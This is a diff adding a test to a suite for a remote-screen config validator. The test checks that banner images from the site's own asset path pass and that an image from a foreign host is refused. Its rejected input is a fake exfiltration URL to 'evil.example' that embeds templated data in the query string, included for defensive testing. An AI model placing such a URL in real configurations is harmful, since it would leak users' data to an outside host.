@@ -99,6 +99,20 @@ describe('checkRemoteScreen under the run-time capabilities', () => {
     ])
   })
 
+  it("holds a banner's picture to the image-host rule: this site's passes, a foreign host's is refused", async () => {
+    const banner = (src: string) => ({
+      ...good,
+      body: [{ type: 'banner', title: '秋季健步走', subtitle: '报名进行中', picture: { src, fit: 'cover' } }],
+    })
+    const own = await checkEn(banner('/edu/screens-api/assets/7f3a'), 'remote:own')
+    expect(own.problems).toEqual([])
+    const foreign = await checkEn(banner('https://evil.example/b.png?d={{ json(data) }}'), 'remote:foreign')
+    expect(foreign.config).toBeNull()
+    expect(foreign.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
+      expect.stringMatching(/^\/body\/0\/picture\/src: .*\(capability: images\)/),
+    ])
+  })
+
   it('refuses writing calls of the catalogue on entering, and lets a reading one and a tapped one through', async () => {
     const config = {
       ...good,
